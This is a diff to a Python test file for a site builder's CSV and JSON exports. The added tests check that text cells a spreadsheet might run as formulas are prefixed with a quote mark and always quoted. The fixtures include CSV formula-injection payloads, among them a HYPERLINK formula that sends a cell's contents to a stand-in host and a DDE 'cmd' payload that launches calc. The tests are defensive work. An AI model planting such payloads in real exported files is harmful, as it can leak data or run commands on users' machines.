@@ -15,7 +15,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from builder import Caches, GeneratedFile, Site, check_content, generate_pages
-from builder.exports import TABLES, RowMemo, _csv_line, _json_row, render_exports
+from builder.exports import FORMULA_STARTS, KINDS, TABLES, TEXT_MARK, RowMemo, _csv_line, _json_row, render_exports
 from builder.index import Index, build_index
 from builder.model import ClaimStatus
 from builder.schema import schema_text
@@ -33,6 +33,17 @@ def index() -> Index:
 
 def _csv_rows(data: bytes) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+def _as_in_csv(value: object) -> str:
+    """A JSON value as its CSV cell reads: text a spreadsheet could run as a formula carries one more quote mark."""
+    if value is None:
+        return ""
+    if isinstance(value, list):
+        return json.dumps(value, ensure_ascii=False)
+    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, TEXT_MARK)):
+        return TEXT_MARK + value
+    return str(value)
 
 
 def test_codebook_documents_every_column_emitted(fixture_site: Path) -> None:
@@ -69,15 +80,7 @@ def test_csv_and_json_hold_the_same_rows(index: Index) -> None:
         assert len(from_json) == len(from_csv) == len(list(table.rows(index))), table.name
         for json_row, csv_row in zip(from_json, from_csv, strict=True):
             for column in table.columns:
-                value = json_row[column.name]
-                expected = (
-                    ""
-                    if value is None
-                    else json.dumps(value, ensure_ascii=False)
-                    if isinstance(value, list)
-                    else str(value)
-                )
-                assert csv_row[column.name] == expected, (table.name, column.name)
+                assert csv_row[column.name] == _as_in_csv(json_row[column.name]), (table.name, column.name)
 
 
 def test_rows_carry_ids_dates_lists_and_page_addresses(index: Index) -> None:
@@ -120,6 +123,95 @@ def test_hostile_text_is_plain_data_in_csv_and_json(
     expected = 'a "quoted", comma\nnew line; =HYPERLINK("x") </script> ü'
     assert expected in [row["headline"] for row in json.loads(files["data/articles.json"])]
     assert expected in [row["headline"] for row in _csv_rows(files["data/articles.csv"])]
+
+
+FORMULAS = {
+    # One text column or more of every table, each starting as a spreadsheet formula would.
+    "articles/2026-01-05-first-round.yaml": [
+        ("headline: First round of talks opens", 'headline: \'=HYPERLINK("https://evil.example/?"&A1,"open")\''),
+        ("author: A. Reporter", "author: '@SUM(1+1)'"),
+        ("reliability: A wire", "reliability: +A wire"),
+        ("  Alphaland and Betastan met for a first round", "  -2+3 Alphaland and Betastan met for a first round"),
+        ("  - The parties met.", "  - '=1+1'"),
+        ("what: Delegations of Alphaland and Betastan met in Geneva.", 'what: "\\tDelegations met in Geneva."'),
+        ("place: Geneva\n  - date", 'place: "\\rGeneva"\n  - date'),
+        ("text: We came here", "text: =cmd|' /C calc'!A0 We came here"),
+        ("text: Betastan is ready for a ceasefire.", "text: '-Betastan is ready for a ceasefire.'"),
+        (
+            "note: Both governments announced the talks a month ahead.",
+            'note: "\'Both governments announced the talks a month ahead."',
+        ),
+    ],
+    "actors.yaml": [("name: Alphaland", "name: '@Alphaland'"), ("description: A state at war.", "description: =1")],
+    "topics.yaml": [("description: A halt to the fighting.", "description: '+A halt, to the fighting'")],
+    "outlets.yaml": [
+        ("country: Nowhere", "country: '-Nowhere'"),
+        ("description: A wire service.", "description: '=A'"),
+    ],
+}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_marked_as_text(
+    content_dir: Path, edit_yaml: Callable[[Path, str, str], None]
+) -> None:
+    for name, edits in FORMULAS.items():
+        for old, new in edits:
+            edit_yaml(content_dir / name, old, new)
+    files = render_exports(build_index(check_content(content_dir)), SITE)
+    marked: dict[str, list[str]] = {}
+    for table in TABLES:
+        raw = files[table.file("csv")].decode("utf-8")
+        from_json, from_csv = _tables(files, table.name)
+        for json_row, csv_row in zip(from_json, from_csv, strict=True):
+            for column in table.columns:
+                value, cell = json_row[column.name], csv_row[column.name]
+                assert not cell.startswith(FORMULA_STARTS), (table.name, column.name, cell)
+                if isinstance(value, str) and value.startswith((*FORMULA_STARTS, TEXT_MARK)):
+                    # OWASP: a single quote before the text, and the cell always quoted.
+                    assert cell == TEXT_MARK + value, (table.name, column.name)
+                    assert '"' + TEXT_MARK + value.replace('"', '""') + '"' in raw, (table.name, column.name)
+                    marked.setdefault(table.name, []).append(column.name)
+                else:
+                    assert cell == _as_in_csv(value), (table.name, column.name)
+    assert marked == {
+        "articles": ["headline", "author", "reliability", "summary"],
+        "events": ["what", "place"],
+        "quotes": ["text"],
+        "claims": ["text", "note"],
+        "actors": ["name", "description"],
+        "topics": ["description"],
+        "outlets": ["country", "description"],
+    }
+    # JSON keeps the exact text, and a list is JSON text in its cell, which starts with "[".
+    articles = {row["id"]: row for row in json.loads(files["data/articles.json"])}
+    assert articles["2026-01-05-first-round"]["headline"] == '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    assert articles["2026-01-05-first-round"]["key_points"] == ["=1+1"]
+    first_round = {row["id"]: row for row in _csv_rows(files["data/articles.csv"])}["2026-01-05-first-round"]
+    assert first_round["key_points"] == '["=1+1"]'
+    events = json.loads(files["data/events.json"])
+    assert (events[0]["what"][:1], events[0]["place"]) == ("\t", "\rGeneva")
+
+
+def test_numbers_stay_numbers_in_csv_even_negative_ones() -> None:
+    assert _csv_line([-3, 2, "-3", None, ["-3"]]) == '-3,2,"\'-3",,"[""-3""]"\r\n'
+    integers = {(t.name, c.name) for t in TABLES for c in t.columns if c.kind == "integer"}
+    assert integers == {
+        ("articles", "information_credibility"),
+        ("events", "number"),
+        ("quotes", "number"),
+        ("claims", "credibility"),
+        ("actors", "articles"),
+        ("topics", "articles"),
+        ("outlets", "articles"),
+    }
+
+
+def test_the_codebook_says_how_csv_marks_formulas(fixture_site: Path) -> None:
+    text = text_of(page(fixture_site, "data/"))
+    assert "a tab, a carriage return, a null character or ' has one more ' put before it" in KINDS["text"]
+    assert " ".join(KINDS["text"].split()) in text
+    assert "as OWASP advises for CSV files" in text
+    assert "drop the first ' of every cell that starts with one" in text
 
 
 def test_exports_are_the_same_on_every_build(index: Index) -> None:
@@ -255,13 +347,34 @@ def test_a_row_is_written_as_json_dumps_would_write_it(row: dict[str, object]) -
     assert _json_row(row) == expected
 
 
-_csv_text = st.text(alphabet=st.sampled_from("a ,\"\r\n\t'é—") | st.characters(), max_size=12)
+_csv_text = st.text(alphabet=st.sampled_from("a ,\"\r\n\t'é—=+-@\0") | st.characters(), max_size=12)
+
+
+def _written(cells: list[str], quoting: int) -> str:
+    buffer = io.StringIO()
+    csv.writer(buffer, quoting=quoting).writerow(cells)
+    return buffer.getvalue()
 
 
 @settings(max_examples=500, deadline=None)
 @given(st.lists(st.none() | st.integers() | _csv_text | st.lists(_csv_text | st.integers()), max_size=6))
 def test_a_csv_line_is_what_csv_writer_writes(cells: list[object]) -> None:
-    buffer = io.StringIO()
-    plain = ["" if c is None else json.dumps(c, ensure_ascii=False) if isinstance(c, list) else str(c) for c in cells]
-    csv.writer(buffer).writerow(plain)
-    assert _csv_line(cells) == buffer.getvalue()
+    """csv.writer's record, but for a text a spreadsheet could run: that one is marked and always quoted."""
+    plain = [_as_in_csv(cell) for cell in cells]
+    if plain == [""]:
+        assert _csv_line(cells) == _written(plain, csv.QUOTE_MINIMAL)
+        return
+    fields = [
+        _written([text], csv.QUOTE_ALL if isinstance(cell, str) and text != cell else csv.QUOTE_MINIMAL)[:-2]
+        if text
+        else ""
+        for cell, text in zip(cells, plain, strict=True)
+    ]
+    assert _csv_line(cells) == ",".join(fields) + "\r\n"
+    assert next(csv.reader(io.StringIO(_csv_line(cells), newline=""))) == plain
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.none() | st.integers() | _csv_text.filter(lambda t: not t.startswith((*FORMULA_STARTS, "'")))))
+def test_a_csv_line_without_formulas_is_byte_for_byte_csv_writers(cells: list[object]) -> None:
+    assert _csv_line(cells) == _written([_as_in_csv(cell) for cell in cells], csv.QUOTE_MINIMAL)
